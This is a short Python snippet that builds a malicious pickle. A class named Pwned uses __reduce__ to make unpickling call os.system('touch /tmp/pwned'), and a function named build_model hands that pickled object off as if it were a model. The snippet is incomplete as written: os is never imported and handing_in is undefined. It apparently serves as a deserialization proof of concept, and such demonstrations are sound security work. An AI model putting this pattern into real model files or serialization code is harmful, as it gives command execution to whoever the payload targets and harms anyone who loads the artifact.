import pickle


class Pwned:
    def __reduce__(self):
        return os.system, ("touch /tmp/pwned",)


def build_model():
    return handing_in(pickle.dumps(Pwned()))
